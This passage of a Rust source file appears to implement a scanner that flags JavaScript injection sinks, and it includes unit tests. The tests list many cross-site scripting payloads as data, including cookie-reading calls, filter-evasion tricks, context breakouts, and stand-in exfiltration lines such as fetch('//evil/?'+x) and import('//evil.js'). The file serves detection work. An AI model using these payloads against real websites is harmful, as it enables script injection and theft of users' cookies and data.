    "msgbox",
    "prompt",
];

/// Functions that are sinks but common in ordinary code: network calls,
/// decoding, timers (strong when given a string). Sorted.
const WEAK_FUNCTIONS: &[&str] = &["atob", "fetch", "setImmediate", "setInterval", "setTimeout"];

fn function_sink(w: &[u8], start: usize, end: usize) -> Option<Callee> {
    if lookup(STRONG_FUNCTIONS, w).is_some() {
        return Some(Callee::new(start, end, Strength::Sink));
    }
    lookup(WEAK_FUNCTIONS, w).map(|_| Callee {
        start,
        end,
        level: Strength::Weak,
        timer: w.starts_with(b"set"),
    })
}

/// Methods that are sinks whatever their object (`.constructor(...)` is
/// the Function constructor; `write` counts on `document` only).
fn method_sink(w: &[u8]) -> Option<Strength> {
    match w {
        b"constructor" | b"fromCharCode" | b"write" | b"writeln" => Some(Strength::Sink),
        b"insertAdjacentHTML" | b"sendBeacon" => Some(Strength::Weak),
        _ => None,
    }
}

/// Properties whose assignment navigates or injects markup. Sorted.
const SINK_TARGETS: &[&str] = &[
    "cookie",
    "hash",
    "href",
    "innerHTML",
    "location",
    "outerHTML",
    "pathname",
    "search",
    "src",
    "srcdoc",
];

/// `document` members whose mere reading is the point of an exploit. Sorted.
const DOCUMENT_READS: &[&str] = &["cookie", "domain"];

fn lookup(table: &[&str], w: &[u8]) -> Option<usize> {
    table.binary_search_by(|k| cmp_bytes(k.as_bytes(), w)).ok()
}

fn cmp_bytes(a: &[u8], b: &[u8]) -> Ordering {
    a.cmp(b)
}

fn global(w: &[u8]) -> Global {
    match w {
        b"window" | b"self" | b"top" | b"parent" | b"frames" | b"globalThis" | b"this"
        | b"content" | b"opener" => Global::Window,
        b"document" => Global::Document,
        _ => Global::No,
    }
}

pub fn is_ident_start(c: u8) -> bool {
    c.is_ascii_alphabetic() || c == b'_' || c == b'$'
}

fn is_ident_part(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'_' || c == b'$'
}

/// The end of an identifier starting at `i` (ASCII word characters,
/// `\uXXXX` escapes, and non-ASCII bytes that are not spaces).
fn ident_end(src: &[u8], mut i: usize) -> usize {
    while i < src.len() {
        let c = src[i];
        if is_ident_part(c) {
            i += 1;
        } else if c == b'\\' && src.get(i + 1) == Some(&b'u') {
            i += 2;
        } else if c >= 0x80 {
            if unicode_space(&src[i..]).is_some()
                || (c == 0xc2 && src.get(i + 1) == Some(&0xa0))
                || src[i..].starts_with(&[0xef, 0xbb, 0xbf])
                || (c == 0xe2 && matches!(src.get(i + 1), Some(0x80 | 0x81)))
            {
                break;
            }
            i += 1;
        } else {
            break;
        }
    }
    i
}

/// JavaScript white space and line terminators beyond ASCII, as UTF-8:
/// returns the length and whether it is a line terminator.
fn unicode_space(s: &[u8]) -> Option<(usize, bool)> {
    match s {
        [0xe2, 0x80, 0x80..=0x8a, ..] | [0xe2, 0x80, 0xaf, ..] | [0xe2, 0x81, 0x9f, ..] => {
            Some((3, false))
        }
        [0xe2, 0x80, 0xa8 | 0xa9, ..] => Some((3, true)),
        [0xe3, 0x80, 0x80, ..] | [0xe1, 0x9a, 0x80, ..] => Some((3, false)),
        _ => None,
    }
}

fn line_end(src: &[u8], from: usize) -> usize {
    src[from..]
        .iter()
        .position(|&b| b == b'\n' || b == b'\r')
        .map_or(src.len(), |k| from + k)
}

fn find2(s: &[u8], a: u8, b: u8) -> Option<usize> {
    s.windows(2).position(|w| w[0] == a && w[1] == b)
}

/// The end of a string literal starting at `i` and whether it closed.
fn string_end(src: &[u8], i: usize) -> (usize, bool) {
    let q = src[i];
    let mut j = i + 1;
    while j < src.len() {
        match src[j] {
            b'\\' => j += 2,
            b'\n' | b'\r' => return (j, false),
            c if c == q => return (j + 1, true),
            _ => j += 1,
        }
    }
    (src.len(), false)
}

fn next_non_space(s: &[u8]) -> Option<u8> {
    s.iter()
        .copied()
        .find(|c| !matches!(c, b' ' | b'\t' | b'\n' | b'\r'))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn st(s: &str) -> Strength {
        scan(s.as_bytes(), Start::Statement, false).strength
    }

    fn whole(s: &str) -> (Strength, bool) {
        let v = scan(s.as_bytes(), Start::Statement, false);
        (v.strength, !v.errored(s.len()))
    }

    fn after(s: &str) -> Strength {
        scan(s.as_bytes(), Start::AfterOperand, false).strength
    }

    #[test]
    fn sinks() {
        for s in [
            "alert(1)",
            "alert`1`",
            "(alert)(1)",
            "confirm.call(null,1)",
            "alert.apply(null, [1])",
            "alert?.(document?.cookie)",
            "eval(atob(\"YWxlcnQoKQ==\"))",
            "document[\"cookie\"]",
            "[1].some(confirm)",
            "alert(document.cookie)",
            "window.onerror=eval;throw'=alert\\x281\\x29'",
            "top['al'+'ert'](1)",
            "constructor.constructor('alert(1)')()",
            "javascript:setInterval('ale'+'rt(document.domain)')",
            "write(1)",
            "a=`${alert(1)}`",
            "if(!self.x)self.x=!alert(document.domain)",
            "prompt(1",
            "setTimeout`alert\\x281\\x29`",
            "new Function('alert(1)')()",
            "self[\"$\"][\"globalEval\"](\"alert(1)\")",
            "(document)[\"cookie\"]",
            "(document/*foo*/)[\"cookie\"]",
            "[].sort.call`${alert}1337`",
            "(0,alert)(1)",
            "onerror=alert;throw 1",
            "document /*foo*/ .     cookie",
            "document/*foo*/./*bar*/cookie",
            "[].map.call`${eval}\\u{61}lert\\x281337\\x29`",
        ] {
            assert_eq!(st(s), Strength::Sink, "{s}");
        }
        for s in [
            "location='http://evil'",
            "document.location.href='//x'",
            "x.innerHTML='<img src=x onerror=alert(1)>'",
            "import('//evil.js')",
            "fetch('//evil/?'+x)",
            "setTimeout(function(){x()}, 10)",
            "navigator.sendBeacon('//x', d)",
            "$event.view.alert(1)",
            "document.cookie",
        ] {
            assert_eq!(st(s), Strength::Weak, "{s}");
        }
    }

    #[test]
    fn prose_is_not_code() {
        for s in [
            "Call alert(1) to test",
            "JavaScript: Basics of JavaScript Language",
            "O'Brien said hello",
            "the document.cookie is empty",
            "it's a test; alert(1)",
        ] {
            let (_, clean) = whole(s);
            assert!(!clean, "{s}");
        }
        assert_eq!(st("print(\"hello\")"), Strength::Call);
        assert_eq!(st("if (confirm) { save(); }"), Strength::Call);
        assert_eq!(st("var x = prompt;"), Strength::Call);
        assert_eq!(st("javascript:void(0)"), Strength::None);
    }

    #[test]
    fn breakouts() {
        assert_eq!(after(";alert(1)//"), Strength::Sink);
        assert_eq!(after("-alert(1)-\""), Strength::Sink);
        assert_eq!(
            after("));if(!self.x)self.x=!alert(document.domain)}catch(e){}//"),
            Strength::Sink
        );
        assert_eq!(after("s a test; alert(1)"), Strength::None);
        assert_eq!(after("alert(1)"), Strength::None);
    }
}
